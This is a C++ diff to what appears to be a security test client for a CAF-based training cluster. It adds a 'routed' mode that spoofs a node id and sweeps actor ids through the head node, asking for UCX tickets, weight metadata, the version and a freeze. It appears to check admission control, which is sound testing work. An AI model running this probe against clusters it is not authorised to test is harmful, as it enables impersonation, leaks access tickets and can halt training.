@@ -343,6 +343,93 @@ int run_direct(attack_context& cx, const direct_options& d) {
   return got_through;
 }
 
+// -- routed ------------------------------------------------------------------------
+
+struct routed_options {
+  std::string node;  ///< whose actors are asked: a member's (a trainer rank's node)
+  std::string claim; ///< the source node claimed; empty: this client's own
+  caf::actor_id max_id = 32;
+  std::string engine = "rollout-a"; ///< whose UCX tickets are asked for
+  int reply_wait_ms = 3000;
+};
+
+/// Requests to the actors of another node, sent to the head for it to
+/// forward (CAF routes by node id, admitted or not): UCX tickets, weights'
+/// metadata, the version, freeze. Refused when no actor answers.
+int run_routed(attack_context& cx, const routed_options& o) {
+  caf::node_id dest;
+  if (auto err = caf::parse(o.node, dest); err || !dest) {
+    std::cerr << "routed: '" << printable(o.node) << "' is not a CAF node id (HOSTHASH#PID)\n";
+    return 2;
+  }
+  auto self = fresh_node_id();
+  auto claimed = self;
+  if (!o.claim.empty())
+    if (auto err = caf::parse(o.claim, claimed); err || !claimed) {
+      std::cerr << "routed: '" << printable(o.claim) << "' is not a CAF node id (HOSTHASH#PID)\n";
+      return 2;
+    }
+  session s{cx.sys, nullptr};
+  int rc = refused;
+  if (!handshake(cx, s, "routed", self, rc))
+    return rc;
+  std::vector<probe> probes = {
+    {"ucx ticket for " + o.engine, caf::make_message(ucx_ticket_atom_v, o.engine, std::int32_t{0})},
+    {"meta", caf::make_message(meta_atom_v)},
+    {"version", caf::make_message(version_atom_v)},
+    {"freeze", caf::make_message(freeze_atom_v)},
+  };
+  std::map<std::uint64_t, outcome> sent;
+  std::uint64_t next_request = 1;
+  for (caf::actor_id id = 1; id <= o.max_id; ++id)
+    for (auto& p : probes) {
+      auto req = next_request++;
+      auto frame_bytes = routed_request(cx.sys, claimed, dest, 1, id, req, p.content);
+      if (s.conn->write_all(frame_bytes, after(ms(cx.opt.deadline_ms))) != io_status::ok) {
+        std::cout << "routed: the head closed the connection after " << sent.size() << " requests\n";
+        id = o.max_id; // stop sending; report what came back
+        break;
+      }
+      sent[req] = outcome{id, p.label, std::nullopt};
+    }
+  auto deadline = after(ms(o.reply_wait_ms));
+  std::size_t pending = sent.size();
+  while (pending > 0) {
+    auto f = s.next(deadline);
+    if (!f)
+      break;
+    if (auto r = read_reply(cx.sys, *f)) {
+      auto it = sent.find(r->request);
+      if (it != sent.end() && !it->second.answer) {
+        it->second.answer = std::move(*r);
+        --pending;
+      }
+    }
+  }
+  std::size_t answered = 0, errors = 0;
+  for (auto& [req, out] : sent) {
+    if (!out.answer)
+      continue;
+    if (out.answer->kind == reply_kind::error) {
+      ++errors;
+      if (out.answer->text.find("request_receiver_down") == std::string::npos)
+        std::cout << "  actor " << out.actor << " " << out.label << ": refused: " << out.answer->text << "\n";
+    } else {
+      ++answered;
+      std::cout << "  actor " << out.actor << " " << out.label << ": ANSWERED: " << out.answer->text << "\n";
+    }
+  }
+  std::cout << "routed: " << sent.size() << " requests to actor ids 1.." << o.max_id << " of " << to_string(dest)
+            << " as " << to_string(claimed) << ": " << answered << " answered, " << errors << " errors, " << pending
+            << " without reply\n";
+  if (answered == 0) {
+    std::cout << "routed: refused: no actor of that node answered\n";
+    return refused;
+  }
+  std::cout << "routed: GOT THROUGH: actors of another node answered an unadmitted node\n";
+  return got_through;
+}
+
 // -- replay-node-id --------------------------------------------------------------
 
 int run_replay(attack_context& cx, const std::string& id_text, int listen_ms) {
@@ -631,6 +718,16 @@ int main(int argc, char** argv) {
     ->check(CLI::Range(1, 600000));
   s_direct->add_flag("--read-only", direct.read_only, "skip pull, freeze and deregister");
 
+  routed_options routed;
+  auto* s_routed = app.add_subcommand("routed", "through the head, requests to the actors of another node (a "
+                                              "trainer rank's): UCX tickets, meta, version, freeze");
+  add_common(s_routed, true);
+  s_routed->add_option("node", routed.node, "the node whose actors are asked (HOSTHASH#PID)")->required();
+  s_routed->add_option("--claim-node", routed.claim, "the source node id claimed (default: this client's)");
+  s_routed->add_option("--max-id", routed.max_id, "highest actor id tried")->check(CLI::Range(1, 100000));
+  s_routed->add_option("--engine", routed.engine, "the engine whose UCX tickets are asked for");
+  s_routed->add_option("--reply-wait-ms", routed.reply_wait_ms, "wait for replies")->check(CLI::Range(1, 600000));
+
   std::string node_id;
   int listen_ms = 3000;
   auto* s_replay = app.add_subcommand("replay-node-id", "handshake claiming a member's node id and listen");
@@ -683,6 +780,8 @@ int main(int argc, char** argv) {
       cx.tls = make_tls_context(opt.tls);
     if (*s_direct)
       return run_direct(cx, direct);
+    if (*s_routed)
+      return run_routed(cx, routed);
     if (*s_replay)
       return run_replay(cx, node_id, listen_ms);
     if (*s_huge)
